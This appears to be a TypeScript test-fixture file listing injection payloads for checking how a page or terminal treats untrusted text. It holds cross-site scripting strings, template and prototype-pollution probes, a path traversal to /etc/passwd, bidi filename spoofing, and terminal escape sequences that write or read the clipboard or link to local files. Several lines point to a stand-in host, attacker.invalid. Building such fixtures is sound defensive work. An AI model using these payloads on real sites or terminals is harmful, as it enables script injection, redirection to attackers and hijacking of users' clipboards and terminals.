/** Texts that would do something if a page took them for more than text. */
const CALL = 'window.__breach=1'
const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
  'onscroll',
]
const TAGS = ['img', 'svg', 'video', 'iframe', 'object', 'embed', 'input', 'details', 'body', 'marquee', 'math', 'style']

export const PAYLOADS: readonly string[] = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  '<style>*{display:none}</style>',
  '<base href="http://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
  '<link rel="stylesheet" href="http://attacker.invalid/a.css">',
  '<form action="http://attacker.invalid/"><button>x</button></form>',
  '<a href="javascript:void(0)" id="constructor">x</a>',
  '</title></textarea></style></script><b>',
  '<!--<img src=x onerror=alert(1)>-->',
  '{{constructor.constructor("return 1")()}}',
  '${alert(1)}',
  '#{7*7}',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '__proto__',
  'constructor',
  '\u202Egpj.exe',
  '\u2066a\u2069\u200B\uFEFF',
  '../../../etc/passwd',
  '//attacker.invalid/x',
  'a'.repeat(400),
  ...TAGS.flatMap((tag) => EVENTS.slice(0, 8).map((event) => `<${tag} src=x ${event}=${CALL} autofocus open tabindex=0>`)),
]

/** Output that a terminal would act on. */
export const OUTPUT_PAYLOADS: readonly string[] = [
  '\u001B]8;;javascript:window.__breach=1\u0007click\u001B]8;;\u0007',
  '\u001B]8;;http://attacker.invalid/\u001B\\click\u001B]8;;\u001B\\',
  '\u001B]0;title\u0007',
  '\u001B[2J\u001B[H',
  '\u001B[31m<img src=x onerror=window.__breach=1>\u001B[0m',
  'a\u0000b',
  '\u009B31m',
]

/** Sequences with which a program asks a terminal for something outside of its screen. */
export const TERMINAL_PAYLOADS: readonly string[] = [
  // The clipboard: write, ask, and clear it.
  '\u001B]52;c;c3RvbGVu\u0007',
  '\u001B]52;c;?\u0007',
  '\u001B]52;c;\u001B\\',
  // Title, icon, and what older terminals paste back as keys.
  '\u001B]0;stolen title\u0007',
  '\u001B]2;stolen title\u001B\\',
  '\u001B]l;stolen\u001B\\',
  '\u001B[21t',
  '\u001B[20t',
  // Size and place of the window, full screen, and printing.
  '\u001B[3;0;0t',
  '\u001B[8;1;1t',
  '\u001B[9;1t',
  '\u001B[5i\u001B[4i',
  // Links, notifications, images and files of other terminals.
  '\u001B]8;;file:///etc/passwd\u0007file\u001B]8;;\u0007',
  '\u001B]9;notice\u0007',
  '\u001B]777;notify;a;b\u0007',
  '\u001B]1337;File=inline=1:aGVsbG8=\u0007',
  '\u001B]1337;CopyToClipboard=general\u0007',
  '\u001BPq#0;2;0;0;0~-\u001B\\',
  '\u001B_Gf=24,s=1,v=1;AAAA\u001B\\',
  // Sequences without an end, and a very long line.
  '\u001B]0;never closed \u0018',
  '\u001BP never closed \u001A',
  'y'.repeat(100_000),
  '\u202Etxt.exe \u2066\u2069',
]
